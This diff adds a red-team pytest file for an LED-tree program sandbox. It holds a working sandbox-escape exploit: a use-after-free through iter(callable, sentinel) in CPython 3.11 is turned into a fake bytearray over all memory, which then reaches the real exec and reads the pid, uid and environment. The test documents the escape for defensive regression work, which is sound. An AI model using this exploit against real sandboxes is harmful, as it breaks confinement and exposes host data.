@@ -1,0 +1,143 @@
+"""Red team, round thirteen: the sandbox's language layer, attacked with ordinary tree programs.
+
+Programs the upload check accepts, run by a real ``Supervisor`` and ``Previewer`` in real
+confined children, no mocks. ``docs/red-team/round13-language.md`` has the reproductions, what
+held, and the suggested fixes; the numbers below are its findings'. Every memory experiment
+runs in a child, never in the pytest process.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from runner.config import RunnerConfig
+from runner.leds.layout import spiral_cone
+from runner.leds.virtual import VirtualStrip
+from runner.supervise.check import Checker
+from runner.supervise.preview import Previewer, PreviewReport
+from runner.supervise.supervisor import RunResult, Supervisor
+
+LEDS = 10
+LIMIT_S = 3.0
+
+
+def _config() -> RunnerConfig:
+    return RunnerConfig(led_count=LEDS, fps=40.0, time_limit_s=LIMIT_S, preview_cpu_s=2)
+
+
+def _dry_run(program: str) -> PreviewReport:
+    # prestart, as the runner's server makes them: the child waits, confined, for its program
+    previewer = Previewer(_config(), spiral_cone(LEDS), prestart=True)
+    try:
+        return previewer.preview(program)
+    finally:
+        previewer.close()
+
+
+def _tree_run(program: str, name: str) -> RunResult:
+    with Supervisor(_config(), VirtualStrip(LEDS), spiral_cone(LEDS), prestart=True) as tree:
+        return tree.run(name, program)
+
+
+# From a fake bytearray over the whole address space to the real ``exec``, as in rounds eight
+# to twelve: ``id(print) + 16`` is the ``SandboxFunction``'s ``_call`` (a function of
+# ``runner.sandbox.guards``), ``+ 16`` its ``__globals__``, stored into a list of the program's.
+FROM_MEMORY_TO_EXEC = """
+memory = found[-1]
+print("memory over everything:", isinstance(memory, bytearray) and len(memory) > (1 << 60))
+
+
+def read(address):
+    return int.from_bytes(memory[address : address + 8], "little")
+
+
+def write(address, value):
+    memory[address : address + 8] = word(value)
+
+
+function = read(id(print) + 16)
+module_globals = read(function + 16)
+holder = [None]
+write(module_globals, read(module_globals) + 1)
+write(read(id(holder) + 24), module_globals)
+real = holder[0]
+namespace = {"__builtins__": real["builtins"]}
+source = "import os; found = (os.getpid(), os.getuid(), sorted(os.environ))"
+real["builtins"].exec(source, namespace)
+print("ESC" + "APED: pid, uid, environment:", namespace["found"])
+"""
+
+
+# --- 1. iter(callable, sentinel) compares through a borrowed sentinel: the real builtins -------
+#
+# CPython 3.11's ``calliter_iternext`` calls ``PyObject_RichCompareBool(it->it_sentinel,
+# result, Py_EQ)`` with the iterator's own pointer to the sentinel, no reference of its own.
+# The sentinel needs no hash (nothing is put in a set or dict), so its class may define
+# ``__eq__``. That ``__eq__`` calls ``next()`` on the same iterator; the inner call's
+# comparison says "equal" and clears ``it_sentinel`` (the iterator's reference goes). The outer
+# ``__eq__`` then returns ``NotImplemented``: its frame's reference goes too, the sentinel is
+# freed, and ``do_richcompare`` goes on to the reflected operation, the *result's* ``__eq__``,
+# handing it the freed sentinel as ``other``. A tuple subclass of 100 items is an 848-byte
+# malloc chunk (its ``ob_refcnt`` at offset 16, past tcache's two words); a ``bytearray`` of
+# the same size, made inside the result's ``__eq__``, gets the chunk back and lays a fake
+# ``bytearray`` over all memory where the sentinel was. Found: every run (runner 4 of 4, tree
+# and dry run), ``completed``/``ended``, log "ESCAPED: pid, uid, environment: (..., 65534,
+# ['LC_CTYPE'])"; plain CPython 3.11.7 gets the fake too.
+CALLITER_ESCAPE = (
+    """def word(value):
+    return value.to_bytes(8, "little")
+
+
+# A bytearray over all memory at offset 16 of an 848-byte chunk (after the GC header).
+FAKE = bytes(16) + word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
+FAKE = FAKE + bytes(847 - len(FAKE))
+state = {"depth": 0, "spray": None}
+found = []
+
+
+class Sentinel(tuple):
+    def __eq__(self, other):
+        if state["depth"] == 0:
+            state["depth"] = 1
+            try:
+                next(stream)  # the inner comparison says equal: the iterator lets go of us
+            except StopIteration:
+                pass
+            return NotImplemented  # our frame lets go too: freed, and then...
+        return True
+
+
+class Reading:
+    def __eq__(self, other):  # ...the reflected comparison is handed the freed sentinel
+        state["spray"] = [bytearray(FAKE) for i in range(50)]
+        found.append(other)
+        return False
+
+
+def read_sensor():
+    return Reading()
+
+
+stream = iter(read_sensor, Sentinel(range(100)))
+next(stream)
+"""
+    + FROM_MEMORY_TO_EXEC
+)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="red team round thirteen: iter(callable, sentinel) compares through a borrowed "
+    "sentinel (CPython 3.11's calliter_iternext), which a re-entrant next() frees: the real "
+    "builtins",
+)
+def test_a_program_cant_free_a_callable_iterators_sentinel_while_it_compares() -> None:
+    program = CALLITER_ESCAPE
+    real = _tree_run(program, "calliter-escape")
+    predicted = _dry_run(program)
+    for log in (real.log, predicted.log):
+        assert "ESCAPED" not in log, log
+        assert "memory over everything: True" not in log, log
+    # However a fix refuses it, the program must not crash the child.
+    assert real.reason != "killed", real.error
+    assert predicted.reason != "killed", predicted.error
